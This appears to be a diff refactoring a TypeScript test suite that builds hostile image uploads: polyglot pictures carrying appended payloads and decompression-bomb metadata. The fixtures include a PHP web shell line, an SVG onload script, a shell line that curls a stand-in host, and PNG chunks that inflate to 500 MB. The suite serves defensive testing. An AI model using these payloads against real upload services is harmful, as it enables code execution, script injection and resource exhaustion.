@@ -46,14 +46,7 @@ const PAYLOADS: [what: string, payload: Buffer][] = [
   ['PHP', Buffer.from(`<?php system($_GET['${PAYLOAD_MARK}']); ?>`)],
   ['PHP archive', Buffer.from(`<?php __HALT_COMPILER(); ?>\r\n${PAYLOAD_MARK}`)],
   ['SVG', Buffer.from(`<svg xmlns="http://www.w3.org/2000/svg" onload="alert('${PAYLOAD_MARK}')"/>`)],
-  [
-    'ZIP',
-    Buffer.concat([
-      Buffer.from('PK\x03\x04', 'latin1'),
-      Buffer.from(PAYLOAD_MARK),
-      Buffer.from('PK\x05\x06', 'latin1'),
-    ]),
-  ],
+  ['ZIP', Buffer.from(`PK\x03\x04${PAYLOAD_MARK}PK\x05\x06`, 'latin1')],
   ['PDF', Buffer.from(`%PDF-1.7\n1 0 obj<</JS(${PAYLOAD_MARK})>>endobj\n%%EOF`)],
   ['shell', Buffer.from(`\n#!/bin/sh\ncurl x.example/${PAYLOAD_MARK}\n`)],
 ]
@@ -63,23 +56,13 @@ async function polyglots() {
   for (const kind of PICTURE_KINDS) {
     const picture = await aPictureOf(kind)
     for (const [what, payload] of PAYLOADS) {
-      made.push({
-        what: `${what} after a ${kind}`,
-        bytes: Buffer.concat([picture, payload]),
-        verdict: 'stored',
-      })
-      made.push({
-        what: `${what} in a comment of a ${kind}`,
-        bytes: withComment(kind, picture, payload),
-        verdict: 'stored',
-      })
+      const after = Buffer.concat([picture, payload])
+      const inside = withComment(kind, picture, payload)
+      made.push({ what: `${what} after a ${kind}`, bytes: after, verdict: 'stored' })
+      made.push({ what: `${what} in a comment of a ${kind}`, bytes: inside, verdict: 'stored' })
     }
-    const [, html = Buffer.alloc(0)] = PAYLOADS[0] ?? []
-    made.push({
-      what: `HTML before a ${kind}`,
-      bytes: Buffer.concat([html, picture]),
-      verdict: 'invalid_file_type',
-    })
+    const before = Buffer.concat([PAYLOADS[0]?.[1] ?? Buffer.alloc(0), picture])
+    made.push({ what: `HTML before a ${kind}`, bytes: before, verdict: 'invalid_file_type' })
   }
   return made
 }
@@ -104,36 +87,23 @@ async function withMetadata(): Promise<HostilePicture[]> {
   const xmp = Buffer.from(`http://ns.adobe.com/xap/1.0/\0<x:xmpmeta>${PAYLOAD_MARK}</x:xmpmeta>`)
   const inflatesTo500MB = deflatedZeros(500_000_000)
   const comments = Buffer.concat(Array(200_000).fill(pngChunk('tEXt', Buffer.from(`a\0${PAYLOAD_MARK}`))))
-  const profilePart = Buffer.concat([
-    Buffer.from('ICC_PROFILE\0\x01\x01', 'latin1'),
-    Buffer.alloc(65_000, PAYLOAD_MARK),
-  ])
-  const hugeProfile = Array.from({ length: 60 }, () => profilePart).reduce(
-    (whole, part) => jpegWith(whole, 0xe2, part),
-    jpeg,
-  )
-  return [
-    { what: 'a JPEG with a location', bytes: jpegWith(jpeg, 0xe1, exif), verdict: 'stored' },
-    { what: 'a PNG with a location', bytes: pngWith(png, 'eXIf', EXIF), verdict: 'stored' },
-    { what: 'a WebP with a location', bytes: webpWith(webp, 'EXIF', EXIF), verdict: 'stored' },
-    { what: 'a JPEG with XMP', bytes: jpegWith(jpeg, 0xe1, xmp), verdict: 'stored' },
-    { what: 'a JPEG with a color profile of 4 MB', bytes: hugeProfile, verdict: 'stored' },
-    {
-      what: 'a PNG with a color profile that decompresses to 500 MB',
-      bytes: pngWith(png, 'iCCP', Buffer.concat([Buffer.from('a\0\0'), inflatesTo500MB])),
-      verdict: 'stored',
-    },
-    {
-      what: 'a PNG with a comment that decompresses to 500 MB',
-      bytes: pngWith(png, 'zTXt', Buffer.concat([Buffer.from('a\0\0'), inflatesTo500MB])),
-      verdict: 'stored',
-    },
-    {
-      what: 'a PNG with 130,000 comments',
-      bytes: Buffer.concat([png.subarray(0, 33), comments.subarray(0, 130_000 * 27), png.subarray(33)]),
-      verdict: 'stored',
-    },
+  const profileHead = Buffer.from('ICC_PROFILE\0\x01\x01', 'latin1')
+  const profilePart = Buffer.concat([profileHead, Buffer.alloc(65_000, PAYLOAD_MARK)])
+  let hugeProfile = jpeg
+  for (let part = 0; part < 60; part++) hugeProfile = jpegWith(hugeProfile, 0xe2, profilePart)
+  const packed = Buffer.concat([Buffer.from('a\0\0'), inflatesTo500MB])
+  const crowded = Buffer.concat([png.subarray(0, 33), comments.subarray(0, 130_000 * 27), png.subarray(33)])
+  const pictures: [what: string, bytes: Buffer][] = [
+    ['a JPEG with a location', jpegWith(jpeg, 0xe1, exif)],
+    ['a PNG with a location', pngWith(png, 'eXIf', EXIF)],
+    ['a WebP with a location', webpWith(webp, 'EXIF', EXIF)],
+    ['a JPEG with XMP', jpegWith(jpeg, 0xe1, xmp)],
+    ['a JPEG with a color profile of 4 MB', hugeProfile],
+    ['a PNG with a color profile that decompresses to 500 MB', pngWith(png, 'iCCP', packed)],
+    ['a PNG with a comment that decompresses to 500 MB', pngWith(png, 'zTXt', packed)],
+    ['a PNG with 130,000 comments', crowded],
   ]
+  return pictures.map(([what, bytes]) => ({ what, bytes, verdict: 'stored' }))
 }
 
 async function truncated() {
